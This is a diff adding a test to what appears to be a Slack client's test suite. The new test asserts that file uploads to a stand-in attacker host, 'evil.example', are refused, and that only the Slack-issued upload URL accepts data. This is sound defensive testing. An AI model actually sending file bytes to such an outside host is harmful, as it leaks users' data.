@@ -111,3 +111,11 @@ def test_of_an_error_only_slacks_own_word_is_told():
     assert said("Received a response in a non-JSON format: <html>") == "unreadable"
     assert said(None) == "unreadable"
     assert word_of(TimeoutError("https://slack.com/?token=xoxb-1")) == "TimeoutError"
+
+
+def test_the_bytes_of_a_file_go_to_slack_or_nowhere(slack, client):
+    place = client.files_getUploadURLExternal(filename="a.xlsx", length=2)
+
+    assert client.upload("https://evil.example/upload/1", b"PK") is None
+    assert client.upload(place["upload_url"], b"PK") == 200
+    assert client.upload(f"{slack.url}upload/none", b"PK") != 200
